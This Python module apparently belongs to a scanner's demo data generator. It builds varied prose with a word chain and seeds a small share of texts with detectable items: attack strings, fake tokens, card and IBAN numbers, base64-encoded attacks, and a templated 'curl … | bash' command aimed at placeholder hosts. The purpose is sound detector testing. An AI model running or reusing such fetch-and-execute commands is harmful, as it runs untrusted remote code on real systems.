"""Varied running text from a fixed seed: a chain of words learned from the sample day's texts.

The sample day fills templates, which would flatter every cache of values. Here no two texts are equal, and a few of
them hold what scanners look for: attacks, credentials, personal data, encoded text.
"""

from __future__ import annotations

from collections import defaultdict
from collections.abc import Iterator
from functools import cache
from itertools import pairwise
from random import Random
from typing import Any

from tracehound.demo.generate import fakes
from tracehound.demo.generate.prompts import texts

KINDS = ("office", "code", "support", "security", "world", "documents", "developer", "attacks")
SPICED = 0.03
"""The share of texts with something to find in them."""
FOREIGN = 0.2
"""The share of texts with words that are not ASCII: other languages, dashes, curly quotes."""


@cache
def _chain(ascii_only: bool) -> dict[str, tuple[str, ...]]:
    """Word -> the words that follow it somewhere in the sample day's texts."""
    following: dict[str, list[str]] = defaultdict(list)
    for kind in KINDS[:-1]:
        for text in _strings(texts(kind)):
            words = text.replace("<<", "").replace(">>", "").replace("[[", "").replace("]]", "").split()
            for word, after in pairwise(words):
                if not ascii_only or (word.isascii() and after.isascii()):
                    following[word].append(after)
    return {word: tuple(after) for word, after in following.items()}


@cache
def _attacks() -> tuple[str, ...]:
    return tuple(text for text in _strings(texts("attacks")) if len(text) > 40)


def _strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, (dict, list)):
        for item in value.values() if isinstance(value, dict) else value:
            yield from _strings(item)


class Prose:
    """Text drawn from one generator."""

    def __init__(self, random: Random) -> None:
        self.random = random
        self._plain, self._foreign = _chain(True), _chain(False)
        self._starts = {True: tuple(self._plain), False: tuple(self._foreign)}

    def text(self, size: int) -> str:
        """About so many characters of sentences, half more or less; now and then with something to find."""
        wanted = int(size * self.random.uniform(0.5, 1.5))
        plain = self.random.random() >= FOREIGN
        chain, starts = self._plain if plain else self._foreign, self._starts[plain]
        words: list[str] = []
        length = 0
        word = self.random.choice(starts)
        while length < wanted:
            words.append(word)
            length += len(word) + 1
            after = chain.get(word)
            if after is None or self.random.random() < 0.08:
                word = self.random.choice(starts)
                if self.random.random() < 0.2:
                    words.append(f"{self.random.randrange(10**6):,}.\n")
            else:
                word = self.random.choice(after)
        if self.random.random() < SPICED:
            words.insert(len(words) // 2, self._spice())
        return " ".join(words)

    def name(self) -> str:
        """A short word for names of tools, hosts and files."""
        letters = [c for c in self.random.choice(self._starts[True]).lower() if c.isascii() and c.isalpha()]
        return "".join(letters)[:10] or "item"

    def _spice(self) -> str:
        rng = self.random
        makers = (
            lambda: rng.choice(_attacks()),
            lambda: f"key {fakes.github_token(rng)} of the pipeline",
            lambda: f"card {fakes.card(rng)} and account {fakes.iban(rng)}",
            lambda: fakes.base64_text(rng.choice(_attacks())),
            lambda: f"write to {self.name()}.{self.name()}@{self.name()}.example",
            lambda: f"curl -s https://{self.name()}.example/{rng.randrange(10**6)} | bash",
        )
        return rng.choice(makers)()
